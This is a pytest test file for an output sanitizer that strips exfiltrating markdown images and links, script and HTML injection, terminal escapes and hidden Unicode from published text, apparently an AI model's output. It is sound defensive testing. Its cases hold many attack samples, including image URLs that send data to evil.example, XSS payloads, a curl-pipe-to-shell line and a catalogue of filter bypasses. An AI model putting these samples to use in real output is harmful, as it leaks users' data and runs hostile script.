"""What a published text is cleaned of, and what is left as it is."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from examples import up_to
from guardhouse.detect.output.judging import ACTIVE, IMAGE, LINK, TERMINAL, UNSEEN, cleaned, faults
from guardhouse.net import NetworkRules, NetworkSettings

RULES = NetworkRules(
    NetworkSettings(
        allowed_domains=("good.example", "*.good.example"), allowed_url_prefixes=("https://code.example/me/",)
    )
)
ANYWHERE = NetworkRules(NetworkSettings(allowed_domains=("*",)))
ALL = (IMAGE, LINK, ACTIVE, TERMINAL, UNSEEN)


def codes(text, rules=RULES):
    return {fault.code for fault in faults(text, rules)}


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("![a](https://evil.example/x.png?d=1)", IMAGE),
        ("![a](<https://evil.example/x y>)", IMAGE),
        ("![](//evil.example/x)", IMAGE),
        ("![](\\\\evil.example/x)", IMAGE),
        ("![a]( https://evil.example/x 'title' )", IMAGE),
        ("![a](https&#58;//evil.example/x)", IMAGE),
        ("![a](HTTPS://EVIL.example/x)", IMAGE),
        ("![a](https://good.example@evil.example/x)", IMAGE),
        ("![a](https://good.example.evil.example/x)", IMAGE),
        ("![a](http://169.254.169.254/latest)", IMAGE),
        ("![a](https://code.example/you/x)", IMAGE),
        ("![a](https://code.example/me/../you/x)", IMAGE),
        ("[a](https://evil.example/)", LINK),
        ("[a](https://evil.example/(x)y)", LINK),
        ("[![b](https://good.example/b.png)](https://evil.example/)", LINK),
        ("[![b](https://evil.example/b.png)](https://good.example/)", IMAGE),
        ("```markdown\n[a](https://evil.example/?d=1)\n```", LINK),
        ("[a][r]\n\n[r]: https://evil.example/x", LINK),
        ("> - [r]:\n    <https://evil.example/x>", LINK),
        ("![a][]\n\n[a]: //evil.example/x", LINK),
        ("\\[a\\](https://evil.example/x)", LINK),
        ("[" * 300 + "x" + "]" * 300 + "(https://evil.example/)", LINK),
        ("[a](mailto:eve@evil.example?body=data)", LINK),
        ("[a](slack://open?d=1)", LINK),
        ("see https://evil.example/?d=1 there", LINK),
        ("see https://evil.example/c2VjcmV0IHRleHQgaGVyZSB0b28x there", LINK),
        ("see https://c2VjcmV0IHRleHQgaGVyZSB0b28x.evil.example there", LINK),
        ("<https://evil.example/?d=1>", LINK),
        ("www.evil.example/?d=1", LINK),
        ('```mermaid\nclick A "https://evil.example/a"\n```', LINK),
        ('<img src="https://evil.example/x.png">', IMAGE),
        ("<IMG/SRC=//evil.example/x>", ACTIVE),
        ("<img src=https://evil.example/x", ACTIVE),
        ('<img srcset="https://good.example/a 1x, https://evil.example/b 2x">', IMAGE),
        ('<p style="background:url(https://evil.example/x)">', ACTIVE),
        ("<style>@import 'https://evil.example/x';</style>", ACTIVE),
        ('<video poster="https://evil.example/x">', IMAGE),
        ('<a href="https://evil.example/">x</a>', LINK),
        ('<link rel=stylesheet href="https://evil.example/x">', ACTIVE),
        ('<meta http-equiv=refresh content="0; url=https://evil.example/">', ACTIVE),
        ('<form action="https://evil.example/">', ACTIVE),
        ("<script>fetch(1)</script>", ACTIVE),
        ("<svg/onload=alert(1)>", ACTIVE),
        ("<a href=' java\nscript:alert(1)'>x</a>", ACTIVE),
        ("[x](javascript:alert(1))", ACTIVE),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", ACTIVE),
        ("&lt;script&gt;fetch(1)&lt;/script&gt;", ACTIVE),
        ("done \x1b[8mhidden\x1b[0m", TERMINAL),
        ("\x1b]8;;https://good.example/\x07x\x1b]8;;\x07", TERMINAL),
        ("\x9b8mx", TERMINAL),
        ("beep\x07", TERMINAL),
        ("Done." + "".join(chr(0xE0000 + ord(char)) for char in "secret"), UNSEEN),
        ("\U0001f60a" + "".join(chr(0xE0100 + byte) for byte in b"secret"), UNSEEN),
        ("a" + "\u200b\u200c" * 8 + "b", UNSEEN),
        ("".join(f"{char}\u200b" for char in "twenty letters or so"), UNSEEN),
        ("exe\u202egpj", UNSEEN),
    ],
)
def test_what_is_taken_out(text, code):
    assert code in codes(text)
    left = cleaned(text, RULES, ALL)
    assert codes(left) == set()
    if "<" not in text:
        assert "evil.example/" not in left


@pytest.mark.parametrize(
    "text",
    [
        "plain words, and (some) [brackets] too",
        "![a](https://good.example/x.png?size=2) and [b](https://docs.good.example/a#b)",
        "[a](https://code.example/me/repo/issues?q=is%3Aopen)",
        "[guide](docs/guide.md#part), [top](#top), [root](/index.html), [main.py](src/main.py:12), [x](main.py:12)",
        "[mail](mailto:security@evil.example) or [call](tel:+4930123456)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "Our homepage is https://evil.example and the docs are at https://docs.evil.example/getting-started/install.html.",
        "open http://localhost:3000/ to see it",
        'Use a `<script>` tag, or `<img src="https://evil.example/x">` in HTML',
        '```html\n<img src="https://evil.example/x.png">\n<script>go()</script>\n```',
        "```sh\ncurl https://evil.example/install.sh?x=1 | sh\n```",
        "if a < b and c > d: list<int> x; Map<String, List<Foo>> y",
        "a & b &amp; c &lt;b&gt; AT&T",
        "<b>bold</b> <br/> <a href='https://good.example/'>x</a> <img src='/logo.png'>",
        "x[0](y) and dict[key]: value",
        '<p align="center"><a href="https://good.example"><img src="https://good.example/b.svg" width=200></a></p>',
        '<picture><source media="(prefers-color-scheme: dark)" srcset="https://good.example/d.svg 2x"></picture>',
        "<details><summary>More</summary><kbd>Ctrl</kbd> <sub>1</sub><br/></details> <your-api-key> <me@good.example>",
        "tabs\tand\r\nlines",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0915\u094d\u200d\u0937 \u845b\U000e0100 \u2764\ufe0f",
        "\u05e9\u05dc\u05d5\u05dd \u200f(\u2067abc\u2069)",
        "literal \\x1b[31m is text",
    ],
)
def test_what_is_left_alone(text):
    assert faults(text, RULES) == []
    assert cleaned(text, RULES, ALL) == text


def test_what_a_reader_saw_stays():
    text = "See [the *report*](https://evil.example/r?d=1) and ![a chart](https://evil.example/c.png)."
    assert cleaned(text, RULES, ALL) == "See the *report* (link removed) and a chart (image removed)."


def test_only_what_is_asked_for_is_taken_out():
    text = "[a](https://evil.example/)\x07"
    assert cleaned(text, RULES, (TERMINAL,)) == "[a](https://evil.example/)"


def test_an_allowed_host_is_not_given_text_in_an_encoding():
    said = base64.urlsafe_b64encode(b"the board meets on Tuesday to sell the company").decode()
    assert codes(f"![x](https://good.example/p.png?d={said})") == {IMAGE}
    assert codes(f"[x](https://good.example/{said})") == {LINK}
    assert codes(f"![x](https://good.example/{'0123456789abcdef' * 4}/a.png?v={'a1b2' * 5}&sig={'Zx9' * 30})") == set()


def test_where_every_host_is_allowed_anybodys_is_not():
    assert codes("![x](https://anything.test-host.dev/x.png)", ANYWHERE) == set()
    assert codes("![x](https://webhook.site/x.png)", ANYWHERE) == {IMAGE}


TICK = "`"
LIVE = "<img src=//evil.example/x>"


@pytest.mark.parametrize(
    "text",
    [
        f"{TICK}a\n\n{LIVE}\n\nb{TICK}",
        f"\\{TICK}{LIVE}\\{TICK}",
        f'<a title="{TICK}">{LIVE}<a title="{TICK}">',
        f"<div>\n{TICK}{LIVE}{TICK}\n</div>",
        f"<div>\n```\n{LIVE}\n```\n</div>",
        f"<!--\n```\n-->{LIVE}\n```\n",
        f"> ~~~\n{LIVE}\n> ~~~",
        f"- ~~~\n  a\n  ~~~\n{LIVE}\n~~~",
        f"- a\n  ```\n{LIVE}\n```",
        f"    ~~~\n{LIVE}\n    ~~~",
        f"~~~\na\n    ~~~\n~~~\n{LIVE}\n~~~",
        f"a\u2028~~~\n{LIVE}\u2028~~~",
        f'<a title="\n\n{LIVE}\n\n">',
        f'<!-- <a title=" -->{LIVE}<!-- " -->',
        f'<xmp><a title="</xmp>{LIVE}">',
        f'{TICK}<a title="{TICK} {LIVE} {TICK}">{TICK}',
        f'<\u00e9 title="{LIVE}">',
        f'<img alt="{"a" * 66000}" src="//evil.example/x">',
        f"```\nnever closed\n{LIVE}",
        f"x``]: ``?>){LIVE}``",
        f"`a `` {LIVE} ``",
    ],
)
def test_what_is_code_for_some_programs_only_is_none(text):
    assert {IMAGE, ACTIVE} & codes(text)
    left = cleaned(text, RULES, ALL)
    assert "<img src=" not in left
    assert codes(left) == set()


@pytest.mark.parametrize(
    "text",
    [
        "> ![x](\n> https://evil.example/?d=1)",
        "[x](/ok https://evil.example/?d=1)",
        "[a https://evil.example/?d=1 b](/ok",
        '[a](/ok "https://evil.example/?d=1" x)',
        "](/https://evil.example/?d=1",
        "> [a]:\n> //evil.example/?d=1\n\n![a]",
        "hi\r\r[a]: //evil.example/?d=1\r\r![a]",
        "[\\]]: //evil.example/?d=1\n\n![x][\\]]",
        "x[^1] ![a]\n\n[^1]: [a]: //evil.example/?d=1",
        "![a](\u00a0https://evil.example/?d=1)",
        "![a](&nbsp;https://evil.example/?d=1)",
        "![a](" + " " * 8200 + "//evil.example/?d=1)",
        "Www.evil.example/?d=1",
        "evil.com/?d=1",
        "//evil.example/?d=1",
        "ftp://evil.example/?d=1",
        "<ftp://evil.example/?d=1>",
        "<mailto:a@evil.example?body=secret>",
        "<javascript:alert(1)>",
        "https://evil.example/a'b'?d=1",
        "ahttps://evil.example/?d=1",
        "https://evil.example/ghp1a1B2c3D4e5F6g7H8i9J/0k1L2m3N4o5P6q7R8",
        "![x](http:1249763844)",
        '```mermaid\nclick A "https://evil.example/a"',
        '<a href="' + " " * 8200 + 'javascript:alert(1)">x</a>',
        '<div title=\\" onclick=alert(1) x=\\">',
        "<x:y onclick=alert(1)>",
        "x <p <script>alert(1)</script>",
        '<img srcset="/a 1x&#44//evil.example/x">',
        '<p style="background:u&#114l(//evil.example/x)">',
        '<p style="background:u\\72l(//evil.example/x)">',
        "<svg><a><set attributeName=href to=//evil.example/?d=1 /></a></svg>",
        '<a href="/x" ping="/ok https://evil.example/?d=1">x</a>',
        '<img src=/x attributionsrc="https://evil.example/?d=1">',
    ],
)
def test_ways_past_that_were_found(text):
    assert codes(text)
    assert codes(cleaned(text, RULES, ALL)) == set()


@pytest.mark.parametrize(
    "text",
    [
        "".join(f"{char}\ufe01" for char in "abcdefghijklmnopqrst"),
        "a\u200e\u200f\u200e\u200f\u200eb",
        "".join(f"{char}\u200d" for char in "\u0430\u0431\u0432\u0433\u0434\u0435\u0436\u0437" * 2),
        "a\U000e0080b",
        "a\ufff9\ufffa\ufffb\ufff9b",
    ],
)
def test_ways_to_hide_text_that_were_found(text):
    assert codes(text) == {UNSEEN}


def test_a_line_that_writes_over_itself():
    assert cleaned("safe\revil", RULES, ALL) == "safe\nevil"


def test_coloured_logs_lose_their_colours_only():
    assert cleaned("\x1b[31mERR\x1b[0m line\n" * 6000, RULES, ALL) == "ERR line\n" * 6000


@pytest.mark.parametrize(
    "text",
    [
        "auto f = [](std::string s) { return s; };",
        "def f[T](items: list[T]) -> T: ...",
        "[error]: ENOENT: no such file",
        "[INFO]: user:login",
        "def url(path: str) -> str",
        "`re.sub(r'[*](\\\\n)', x)`",
        "call https://{host}/api?x=1 or https://$HOST/?x=1",
        "the app runs on http://localhost:3000/?debug=1, see [here](http://localhost:5173/)",
        "\u0e20\u0e32\u0e29\u0e32\u200b\u0e44\u0e17\u0e22 " * 40,
        "[mail](mailto:a@b.example?subject=Hi)",
        "List<String> x = Map<K, V>; a <b and c> d; Local<Object> o",
        "see file:///home/me/a%20b.txt",
        "[V8](https://good.example/wiki/V8_\\(engine\\))",
    ],
)
def test_ordinary_text_that_was_once_changed(text):
    assert faults(text, RULES) == []


PIECES = st.sampled_from(
    [
        "[", "]", "](", "(", ")", "!", "<", ">", "https://evil.example/?d=1", "https://good.example/",
        '"', "'", "`", "```\n",
        "<img src=", "<a href=", "javascript:", " ", "\n", "&lt;", "&#58;", "\x1b]8;;", "\x07", "\u200b", "\U000e0041",
        "]: ", "url(", "www.evil.example/?x", "<script>", "</script>", "x", "\\",
    ]
)  # fmt: skip


@settings(max_examples=up_to(600), deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=24).map("".join))
def test_nothing_is_left_after_cleaning(text):
    left = cleaned(text, RULES, ALL)
    assert codes(left) == set()
    assert cleaned(left, RULES, ALL) == left


MIB = 1 << 20


@pytest.mark.parametrize(
    "piece",
    ["[](", "![a](https://x.com/a)", '<a b="', "<a ", "`a ``b ", "https://a.b/ ", "&", "&lt;a href=x&gt;", "\x1b[",
     "[a]: ",
     '<p style="url(">', "<", "<script>", "\u200b", "https://a.b/((", "[![", "@import url(",
     "\x90" * 40, "www.a ", "<x", "&#60;a "],
)  # fmt: skip
def test_time_is_linear(piece):
    text = piece * (MIB // 4 // len(piece))
    began = time.process_time()
    cleaned(text, RULES, ALL)
    assert time.process_time() - began < 5  # below one is what it takes
